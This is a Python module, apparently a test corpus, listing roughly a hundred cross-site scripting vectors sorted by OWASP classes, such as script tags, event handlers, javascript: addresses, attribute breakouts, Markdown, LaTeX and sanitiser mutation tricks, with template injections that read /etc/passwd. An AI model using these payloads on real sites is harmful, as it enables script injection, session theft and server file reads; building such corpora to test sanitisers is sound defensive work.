"""Texts that run a script where a page takes them for markup, by the published classes of the attack.

Classes after the OWASP cheat sheet on cross-site scripting and the HTML Living Standard: script elements, handlers of
events, addresses that run, elements that load, leaving an attribute, an element of raw text, a comment or a script,
foreign content, encodings, templates, style, and markup that Markdown, LaTeX or a sanitiser makes whole. Each calls
`hit()` (which a test page counts) or asks for something from outside.
"""

from __future__ import annotations

VECTORS = (
    # script elements, whole, broken and disguised
    "<script>hit()</script>",
    "<SCRIPT SRC=//outside.example/x.js></SCRIPT>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit();//<</script>",
    "<script\n>hit()</script\n>",
    "</title><script>hit()</script>",
    "</style><script>hit()</script>",
    "</textarea></noscript></template></select><script>hit()</script>",
    "</script><script>hit()</script>",
    "<script type=module>hit()</script>",
    # handlers of events
    "<img src=x onerror=hit()>",
    "<img/src=`x`onerror=hit()>",
    "<svg/onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>",
    "<marquee onstart=hit()>",
    "<b onmouseover=hit() style=position:fixed;inset:0>x</b>",
    "<x contenteditable onblur=hit() tabindex=1 autofocus>",
    "<a href=# onclick=hit() accesskey=x>x</a>",
    # addresses that run
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href=\"&#106;avascript&colon;hit()\">x</a>",
    "<a href='\u00a0javascript:hit()'>x</a>",
    "<a href=data:text/html,<script>parent.hit()</script>>x</a>",
    "<a href=vbscript:hit()>x</a>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit()>x</button>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
    # elements that load or embed
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//outside.example/x.svg>",
    "<base href=//outside.example/>",
    "<link rel=stylesheet href=//outside.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<img src=//outside.example/x.png>",
    "<style>@import '//outside.example/x.css';*{background:url(//outside.example/y)}</style>",
    "<svg><image href=//outside.example/x.png /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x'/>",
    "<svg><foreignObject><iframe src=javascript:parent.hit()></iframe></foreignObject></svg>",
    # leaving an attribute, a comment, a script, JSON
    "\"><script>hit()</script>",
    "'><img src=x onerror=hit()>",
    "\" onmouseover=hit() autofocus onfocus=hit() x=\"",
    "' onfocus=hit() autofocus '",
    "` onerror=hit() `",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml-stylesheet href='javascript:hit()'?>",
    "\"});hit();//",
    "\\\"});hit();//",
    "\\u003cscript>hit()\\u003c/script>",
    "'+hit()+'",
    "${hit()}",
    "\u2028hit()\u2029//".replace("\u2028", " ").replace("\u2029", " "),
    # encodings
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜script＞hit()＜/script＞",
    "<img src=x on\u0065rror=hit&lpar;&rpar;>",
    # templates
    "{{ ''.__class__.__mro__ }}{{ hit() }}",
    "{% include '/etc/passwd' %}",
    "{{ constructor.constructor('hit()')() }}",
    "<%= hit() %>",
    # what Markdown makes whole
    "[x](javascript:hit())",
    "[x](java&#115;cript:hit())",
    "[x](<javascript:hit()>)",
    "[x]( javascript:hit() 'y')",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "![x](//outside.example/x.png)",
    "![x](x\" onerror=\"hit())",
    "<javascript:hit()>",
    "[x]: javascript:hit()",
    "[x](//outside.example/ \"\" onclick=hit() x=\")",
    "*[hit]: \"><script>hit()</script>",
    "`<script>hit()</script>`",
    "[a](x 'y\"><img src=x onerror=hit()>')",
    # what LaTeX and the style sheet make whole
    "$<script>hit()</script>$",
    "\\href{javascript:hit()}{x}",
    "\\input{/etc/passwd}",
    "}</style><script>hit()</script>",
    "\"}body{background:url(//outside.example/z)}",
    "\\22 }body{background:url(//outside.example/z)}",
    "x;background:url(//outside.example/z)",
    # what a sanitiser that repairs markup makes whole
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit()&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=hit()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<abbr title='\"><script>hit()</script>'>x</abbr>",
    "<table background=javascript:hit()><td background=//outside.example/x>",
    "<a name=hit><a id=document name=cookie>",
    "<img name=body><form id=location>",
    "<p class=draft id=content style=display:none>x</p>",
)  # fmt: skip


def letters(vectors: tuple[str, ...], longest: int) -> list[str]:
    """The vectors that fit a field of so many characters, in one line each."""
    return [line for vector in vectors if len(line := " ".join(vector.split())) <= longest]
